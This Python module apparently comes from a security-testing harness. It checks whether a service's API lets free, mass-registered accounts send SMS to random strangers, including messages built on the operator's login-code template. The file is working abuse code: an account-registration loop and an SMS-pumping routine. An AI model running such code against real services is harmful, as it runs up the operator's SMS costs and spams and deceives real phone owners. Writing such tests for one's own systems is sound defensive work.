"""SMS to strangers at the operator's cost, by accounts that cost nothing."""

import asyncio
import random
import secrets

from attack_kind import Kind
from attack_wire import Client, json_request

PASSWORD = "Tr0ub4dor&3xx-" + secrets.token_hex(4)
TEXTS_PER_USER = 20
# Rare, so that no honest number is one of theirs.
PREFIX = "0999"


class Strangers(Kind):
    """Registers users from one address, and has each of them, and one with a number, write to strangers."""

    name, title = "strangers", "strangers' SMS"

    async def prepare(self):
        self.user = await self.world.log_in()
        self.numbers = set()
        self.last_call = await self.world.last_call()

    async def run(self):
        await asyncio.gather(self._send_as(self.user.header), *(self._register() for _ in range(4)))

    async def finish(self):
        # What was taken is on its way to the provider.
        await asyncio.sleep(2)
        reached = self.world.reached(await self.world.calls(self.last_call))
        sent = len(reached & {number[-10:] for number in self.numbers})
        self.tally.notes.append(f"{len(self.numbers)} strangers, {sent} SMS")
        if sent:
            self.tally.faults.append(f"{sent} SMS to strangers")
        if not self.numbers:
            self.tally.faults.append("nothing was tried: this proves nothing")

    async def _register(self):
        client = Client(self.world.api)
        try:
            while True:
                name = "u" + secrets.token_hex(6)
                fields = {"username": name, "password": PASSWORD, "password2": PASSWORD, "email": f"{name}@a.ir"}
                data = json_request("POST", "/api/register/", fields)
                answer = await self.tally.watch("register", client.ask(data))
                if answer is None or answer.status != 201:
                    await asyncio.sleep(self.pause)
                    continue
                data = json_request("POST", "/api/login/", {"username": name, "password": PASSWORD})
                answer = await self.tally.watch("login", client.ask(data))
                if answer is not None and answer.status == 200:
                    await self._send_as(("Authorization", f"Bearer {answer.json()['access']}"))
        finally:
            client.close()

    async def _send_as(self, header):
        client = Client(self.world.api)
        try:
            for index in range(TEXTS_PER_USER):
                number = f"{PREFIX}{random.randrange(10**7):07}"
                self.numbers.add(number)
                fields = {"mobile_number": number, "message_text": "Win a prize"}
                if index % 4 == 3:
                    # The operator's own text for codes, with what the user likes in it.
                    fields = {"mobile_number": number, "message_text": "99999999", "template_id": "login"}
                data = json_request("POST", "/api/message/send/", fields, [header])
                await self.tally.watch("send", client.ask(data))
        finally:
            client.close()
